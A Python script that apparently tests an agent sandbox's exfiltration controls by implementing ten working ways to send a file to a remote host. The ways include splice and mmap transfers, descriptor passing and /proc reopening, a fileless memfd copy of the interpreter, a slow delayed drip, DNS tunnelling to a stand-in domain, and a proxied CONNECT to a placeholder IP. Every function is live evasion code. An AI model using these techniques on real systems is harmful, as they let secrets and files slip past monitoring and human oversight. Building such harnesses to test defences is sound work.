"""smuggle.py WAY FILE TO: ways by which a file leaves, each checked to have arrived. TO is HOST:PORT unless said otherwise.

splice: by a pipe and without being read · mapped: mapped, and sent as it lies there · procfd: a child opens the parent's descriptor
under /proc · passed: a child that was there before gets the descriptor · memfd: a copy of the interpreter in memory is run and reads
it as its input · late: after 13 s, a few bytes at a time · named: as names asked of the resolver, TO bytes each · waits: who calls
port TO gets it · relay: a program of nobody's task gets it by the socket TO · proxied: by the proxy TO
"""
import _socket, binascii, mmap, posix, sys, time

sys.path.append("/opt/agent")
from peer import connect, ended
from resolver import TXT, asked

way, path, to = sys.argv[1:4]


def opened():
    return posix.open(path, posix.O_RDONLY)


def whole():
    file = opened()
    data = posix.read(file, 65536)
    posix.close(file)
    return data


def sent(*parts):
    peer = connect(to)
    for part in parts:
        peer.sendall(part)
    ended(peer)


def succeeded(child):
    if posix.waitpid(child, 0)[1]:
        sys.exit(3)


def splice():
    file, (reader, writer), peer = opened(), posix.pipe(), connect(to)
    while count := posix.splice(file, writer, 4096):
        while count:
            count -= posix.splice(reader, peer.fileno(), count)
    ended(peer)


def mapped():
    file = opened()
    view = mmap.mmap(file, 0, prot=mmap.PROT_READ)
    posix.close(file)
    peer = connect(to)
    peer.sendmsg([view])
    ended(peer)


def procfd():
    file, parent = opened(), posix.getpid()
    child = posix.fork()
    if child == 0:
        posix.close(file)
        again = posix.open(f"/proc/{parent}/fd/{file}", posix.O_RDONLY)
        sent(binascii.b2a_base64(posix.read(again, 65536)))
        posix._exit(0)
    succeeded(child)


def passed():
    here, there = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_SEQPACKET)
    child = posix.fork()
    if child == 0:
        here.close()
        _, control, _, _ = there.recvmsg(8, _socket.CMSG_SPACE(4))
        sent(posix.pread(int.from_bytes(control[0][2], "little"), 65536, 0))
        posix._exit(0)
    there.close()
    file = opened()
    here.sendmsg([b"a file"], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, file.to_bytes(4, "little"))])
    posix.close(file)
    succeeded(child)


def memfd():
    memory, program = posix.memfd_create("cache", posix.MFD_CLOEXEC), posix.open("/usr/bin/python3", posix.O_RDONLY)
    while posix.sendfile(memory, program, None, 1 << 20):
        pass
    posix.dup2(opened(), 0)
    posix.execve(memory, ["cache", "-I", "-S", "/opt/agent/sender.py", to], {})


def late():
    data = whole()
    time.sleep(13)
    for at in range(0, len(data), 48):
        sent(data[at : at + 48])
        time.sleep(0.3)


def named():
    text = binascii.b2a_hex(whole()).decode()
    for number, at in enumerate(range(0, len(text), 2 * int(to))):
        asked(f"{text[at : at + 2 * int(to)]}.{number}.cdn.example.net", TXT)
        time.sleep(0.4)


def waits():
    data, door = whole(), _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    door.bind(("0.0.0.0", int(to)))
    door.listen(1)
    number, _ = door._accept()
    caller = _socket.socket(fileno=number)
    caller.recv(1)
    caller.sendall(data)
    ended(caller)


def relay():
    link = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    link.connect(to)
    link.sendall(whole())
    ended(link)


def proxied():
    sent(b"CONNECT 203.0.113.9:443\r\n\r\n", whole())


WAYS = {each.__name__: each for each in (splice, mapped, procfd, passed, memfd, late, named, waits, relay, proxied)}
WAYS[way]()
